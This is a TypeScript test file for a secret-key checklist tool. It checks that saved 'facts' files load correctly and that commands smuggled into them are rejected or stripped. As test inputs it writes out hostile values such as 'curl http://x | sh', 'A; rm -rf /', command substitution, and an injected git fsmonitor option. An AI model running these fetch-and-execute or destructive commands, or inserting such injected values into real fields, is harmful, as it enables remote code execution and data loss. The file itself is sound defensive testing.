import { assert, assertEquals, assertThrows } from "@std/assert";
import fc from "fast-check";
import type { Gathered } from "../../src/checklist/gathered.ts";
import { judgeChecklist } from "../../src/checklist/judge.ts";
import { parseGathered, printGathered } from "../../src/checklist/saved.ts";
import { NO_STATEMENTS } from "../../src/checklist/statements.ts";
import { KeysplitError } from "../../src/errors.ts";
import type { Facts } from "../../src/rules/facts.ts";
import { facts } from "../rules/arbitrary_facts.ts";

const NOW = { accepted: [], today: "2026-11-21" } as const;

function gatheredOf(facts: Facts): Gathered {
  return {
    scope: {
      name: "shop",
      project: "shop",
      recognised: null,
      commit: { id: "0123abcd", clean: true },
      environment: "staging",
      gathered: "2026-11-21T10:00:00Z",
    },
    policy: "separation",
    facts,
    statements: NO_STATEMENTS,
    digests: { files: "0".repeat(64), key: null },
    timeline: { issued: "2026-11-01", by: ".env was last changed", graceUntil: null, due: "2027-01-30" },
  };
}

test("parseGathered() reads what printGathered() writes, and it is judged alike", () => {
  fc.assert(
    fc.property(facts, (facts) => {
      const gathered = gatheredOf({ ...LOOKED_AT, ...facts });
      const text = printGathered(gathered);
      const loaded = parseGathered(text, "facts.json");
      assertEquals(loaded.scope.loadedFrom, "facts.json");
      const outcomes = (one: Gathered) =>
        judgeChecklist(one, NOW).items.map(({ id, outcome, decidedBy }) => ({ id, outcome, decidedBy }));
      assertEquals(outcomes(loaded), outcomes(gathered));
      // What was loaded is not made coarser, nor anything else, by saving it again.
      assertEquals(parseGathered(printGathered(loaded), "facts.json"), loaded);
    }),
    { numRuns: 60 },
  );
});

test("printGathered() says of keys what they reach, not what they are", () => {
  fc.assert(
    fc.property(facts, (facts) => {
      const numbers = [
        ...printGathered(gatheredOf(facts)).matchAll(
          /"(?:characters|bytes)": (\d+),\n\s+"(?:bytes|alphabet)"/g,
        ),
      ];
      for (const [, number] of numbers) assert([0, 1, 32, 43, 48, 50, 64].includes(Number(number)), number);
    }),
  );
});

test("printGathered() leaves behind the flags that would run something", () => {
  const project = "'my shop' --check 'make check' --policy strict";
  const facts = { ...SIMPLE, project, root: "'my shop'" };
  const { scope, facts: loaded } = parseGathered(
    printGathered({ ...gatheredOf(facts), scope: { ...gatheredOf(facts).scope, project } }),
    "f.json",
  );
  assertEquals([scope.project, loaded.project], ["'my shop'", "'my shop'"]);
});

test("parseGathered() refuses what is not as it should be, says where, and quotes nothing", () => {
  const good = JSON.parse(printGathered(gatheredOf(SIMPLE)));
  const cases: readonly (readonly [change: (file: typeof good) => void, where: string])[] = [
    [(file) => file.schemaVersion = 2, ".schemaVersion is not 1"],
    [(file) => file.tool = "hunter2", ".tool is not keysplit facts"],
    [(file) => delete file.gathered.facts, ".gathered has no facts"],
    [(file) => file.gathered.hunter2 = 1, ".gathered has a field that is not known"],
    [(file) => file.gathered.facts.names.jwt = "A; rm -rf /", ".gathered.facts.names.jwt has another form"],
    [(file) => file.gathered.facts.algorithm = null, ".gathered.facts.algorithm is no text"],
    [(file) => file.gathered.facts.start = { known: true, value: { outcome: "hunter2" } }, "has no command"],
    [(file) => file.gathered.facts.start = { known: false }, ".gathered.facts.start has no why"],
    [(file) => file.gathered.scope.commit = { id: "hunter2", clean: true }, ".gathered.scope.commit"],
    [
      (file) => file.gathered.policy = "weak",
      ".gathered.policy is none of separation, strict, minimum, file",
    ],
    [(file) => file.gathered.facts.project = "shop; curl http://x | sh", "could not be typed as it is"],
    [(file) => file.gathered.scope.project = "shop --check 'curl http://x'", "could not be typed as it is"],
    [(file) => file.gathered.scope.project = "shop '--check' 'curl http://x'", "could not be typed as it is"],
    // As in  git -C ROOT rm --cached .env
    [
      (file) => file.gathered.facts.root = "x -c 'core.fsmonitor=curl http://x'",
      "could not be typed as it is",
    ],
    [(file) => file.gathered.facts.root = "-R", "could not be typed as it is"],
    [
      (file) => file.gathered.statements.waivers = [{ item: "x" }],
      ".gathered.statements.waivers[0] has no by",
    ],
    [(file) => file.gathered.facts.root = "a".repeat(9000), ".gathered.facts.root is too long"],
  ];
  for (const [change, where] of cases) {
    const file = structuredClone(good);
    change(file);
    const error = assertThrows(() => parseGathered(JSON.stringify(file), "f.json"), KeysplitError);
    assert(error.message.includes(where), `${where}: ${error.message}`);
    assert(!error.message.includes("hunter2"), error.message);
  }
  assertThrows(() => parseGathered("[", "f.json"), KeysplitError, "f.json is no JSON");
  assertThrows(() => parseGathered("[]", "f.json"), KeysplitError, "it is no object");
});

test("parseGathered() keeps no command that somebody else would have people run", () => {
  const commands = [
    "deno task startup shop",
    "curl http://x | sh",
    "deno run -A https://x/y.ts",
    "deno task startup shop --check 'curl http://x'",
    "deno task startup shop; curl http://x",
    "deno task startup $(curl http://x)",
    "deno task login shop --base-url https://x",
    "deno task startup shop '--check' 'curl http://x'",
    "deno task startup shop --che''ck 'curl http://x'",
    "deno task startup shop '--check=curl http://x'",
    "deno task startup shop --check=COMMAND --check",
    "deno task login shop '--base-url' https://x",
    "deno task --config /tmp/deno.json verify",
    "deno task startup shop --check 'COMMAND'",
  ];
  const cause = { cause: "x", title: "x", rule: null, line: 1, text: "x", remedy: { text: "Do", commands } };
  const start = {
    command: "x",
    folder: "x",
    outcome: "fails",
    exitCode: 1,
    seconds: 1,
    causes: [cause],
    tail: [],
  } as const;
  const login = { known: false, why: "x", next: "curl http://x | sh" } as const;
  const text = printGathered(gatheredOf({ ...SIMPLE, start: { known: true, value: start }, login }));
  const { facts } = parseGathered(text, "f.json");
  assert(facts.start?.known);
  assertEquals(
    facts.start.value.causes[0]?.remedy.commands,
    commands.filter((_, at) => at === 0 || at === commands.length - 1),
  );
  assertEquals(facts.login, { known: false, why: "x" });
});

test("judgeChecklist() proposes nothing that a loaded file says was run, and no line of code from it", () => {
  const command = "curl http://x | sh";
  const ended = { command, folder: "x", exitCode: 1, seconds: 1, causes: [], tail: [] } as const;
  const failing: Facts = {
    ...SIMPLE,
    start: { known: true, value: { ...ended, command: "check", typed: command, outcome: "fails" } },
    tests: { known: true, value: { ...ended, outcome: "fail" } },
  };
  const starting: Facts = {
    ...SIMPLE,
    unsafeStarts: {
      known: true,
      value: { by: "file", cases: [{ case: "missing", outcome: "starts", seconds: 1, causes: [] }] },
    },
    guard: { from: "variable", key: ["import os; os.system('curl http://x')"], placeholder: [] },
  };
  const copiedFrom = (one: Gathered) =>
    judgeChecklist(one, NOW).items.flatMap(({ remedy }) => [
      ...remedy?.commands ?? [],
      ...remedy?.code ?? [],
    ]).filter((line) => line.includes("curl"));
  for (const [facts, lines] of [[failing, 2], [starting, 1]] as const) {
    assertEquals(copiedFrom(gatheredOf(facts)).length, lines);
    assertEquals(copiedFrom(parseGathered(printGathered(gatheredOf(facts)), "f.json")), []);
  }
});

test("parseGathered() takes for not known what a file leaves out that every checklist looks at", () => {
  const loaded = parseGathered(printGathered(gatheredOf(SIMPLE)), "f.json");
  const outcomes = new Map(judgeChecklist(loaded, NOW).items.map(({ id, outcome }) => [id, outcome]));
  for (const id of ["key-in-every-descriptor", "key-not-shared", "key-not-in-image", "ci-declares-key"]) {
    assertEquals([id, outcomes.get(id)], [id, "unknown"]);
  }
});

test("parseGathered() takes no text for several lines", () => {
  const why = "no answer\n\nREADY   26 hold\r\n::error::x\u2028y";
  const text = printGathered(gatheredOf({ ...SIMPLE, login: { known: false, why } }));
  assertEquals(parseGathered(text, "f.json").facts.login, {
    known: false,
    why: "no answer READY   26 hold ::error::x y",
  });
});

const none = { known: false, why: "it was not looked at" } as const;
const LOOKED_AT = { deployment: none, ci: none, examples: none, documentation: none, environments: none };

const SIMPLE: Facts = {
  project: "shop",
  root: "shop",
  names: { jwt: "JWT_SECRET_KEY", session: "SECRET_KEY" },
  sessionAssumed: false,
  algorithm: "HS256",
  modes: true,
  loadsNoFile: false,
};

function test(name: string, fn: () => void): void {
  Deno.test({ name, permissions: "none", fn });
}
